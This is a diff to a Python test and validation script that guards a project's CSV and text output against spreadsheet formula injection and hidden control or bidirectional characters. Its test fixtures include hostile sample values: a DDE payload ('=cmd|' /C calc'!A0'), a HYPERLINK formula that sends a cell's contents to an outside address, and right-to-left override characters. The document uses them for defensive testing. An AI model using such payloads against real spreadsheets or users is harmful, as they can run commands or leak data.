@@ -19,11 +19,13 @@ import sys
 import tempfile
 import unicodedata
 
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "tools"))
+from terminal import has_terminals  # noqa: E402
+
 ROOT = pathlib.Path(__file__).resolve().parent.parent
 WIDTH = 100
 MARK = "\ufeff"
 LANGUAGES = ("en", "nl")
-FORMULAS = tuple("=+-@\t\r\n＝＋－＠")
 
 
 class Raw(str):
@@ -94,10 +96,24 @@ def compact(value):
 
 
 def cell_of(value):
-    text = "".join("?" if unicodedata.category(letter) == "Cc" and letter not in "\t\r\n" else letter
-                   for letter in plain(value))
-    harmful = not isinstance(value, Raw) and text.startswith(FORMULAS)
-    return "'" + text if harmful else text
+    text = "".join("?" if is_masked(letter) and letter not in "\t\r\n" else letter for letter in plain(value))
+    if isinstance(value, Raw):
+        return text
+    cell = re.sub("(^|[;\t\r\n])([ \"]*)(?=[=+@\\-＝＋－＠])", "\\1\\2'", text)
+    return "'" + cell if text.startswith(("\t", "\r", "\n")) else cell
+
+
+def is_masked(letter):
+    """What commands a terminal, or turns the direction of what follows."""
+    return unicodedata.category(letter) == "Cc" or letter in "\u061c\u200e\u200f\u2066\u2067\u2068\u2069" or \
+        "\u2028" <= letter <= "\u202e"
+
+
+def begins_formulas(text):
+    """Cells that begin one, however the text is parted: by the reader of CSV where quotes count, or by hand."""
+    return [cell for separator in ",;\t"
+            for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator)
+            for cell in row if re.match("[ \"]*([=+@＝＋－＠]|-[^0-9])", cell)]
 
 
 MISSING = object()
@@ -323,6 +339,9 @@ def read_csv(text):
         wrong += "the last line does not end, or a mark stands inside\n"
     if any(len(row) != len(rows[0]) for row in rows):
         wrong += "rows of unequal length\n"
+    formulas = begins_formulas(body)
+    if formulas:
+        wrong += "cells begin a formula: %s\n" % formulas[:3]
     if len(set(rows[0])) != len(rows[0]):
         wrong += "two columns have the same head\n"
     return rows[0], rows[1:], wrong
@@ -434,7 +453,7 @@ def check_text(text):
     wide = [line for line in text.split("\n") if width_of(line) > WIDTH and len(line.split()) > 1
             and not line.startswith("      solpool ")]
     wrong = "".join("%d columns: %s\n" % (width_of(line), line) for line in wide[:3])
-    if any(ord(letter) < 32 and letter != "\n" for letter in text):
+    if any(is_masked(letter) and letter != "\n" for letter in text):
         wrong += "a control character stands in the text\n"
     if any(line != line.rstrip() for line in text.split("\n")):
         wrong += "a line ends in blanks\n"
@@ -446,11 +465,12 @@ def check_text(text):
 def awkward_year():
     """Names that a table or a spreadsheet might stumble over."""
     names = ["=1+1", "+49", "-5", "@home", "Commas, and \"quotes\"", "Semi;colon", "Österreich", "Česko", "Ελλάδα",
-             "e\u0301tat combine\u0301", "中华人民共和国", "＝wide", "A very long name of a state indeed"]
+             "e\u0301tat combine\u0301", "中华人民共和国", "＝wide", "x;=HYPERLINK(\"http://x/?\"&A2)",
+             "y; \"+1\"", "Ben\u202eefits\u2067", "A very long name of a state indeed"]
     states = [{"code": "S%d" % (k + 1), "name": name, "population": 1000003 * (k + 1), "gdp_million_eur": 70001 + 31 * k,
                "pledge": {"relocations": 3 * k} if k % 3 else None,
                "cost": {"relocation_eur": 20000 + 1000 * k}} for k, name in enumerate(names)]
-    return {"format": "solpool-year-1", "year": 2031, "title": "=cmd|' /C calc'!A0, \"line\nbreak\"",
+    return {"format": "solpool-year-1", "year": 2031, "title": "=cmd|' /C calc'!A0, \"line\nbreak;@x\"",
             "pool": {"relocations": 400, "financial_eur": 8000000, "forum_reconvened": True}, "states": states,
             "benefitting": [{"code": "S5", "need": {"relocations": 90}}, {"code": "S9", "weight": 2}],
             "sources": [{"id": "X", "title": "=SUM(A1:A9), \"quoted\"", "address": "@x", "confidence": "official"}]}
@@ -678,7 +698,8 @@ def cases(program, library, years):
                {"id": "ö", "patch": {"nonsense": 1}}, {"benefitting": {"PT": {"weight": 5}, "CY": None}},
                {"states": {"MT": {"bound": False}}}] + [{"states": {"DE": {"pledge": {"relocations": 11 * k}}}}
                                                         for k in range(150)]
-    yield "colour", lambda: check_colour(program, "2026", years["2026"])
+    if has_terminals("formats", "colour"):
+        yield "colour", lambda: check_colour(program, "2026", years["2026"])
     yield "sweep", lambda: check_sweep(program, years["2026"], patches)
 
 
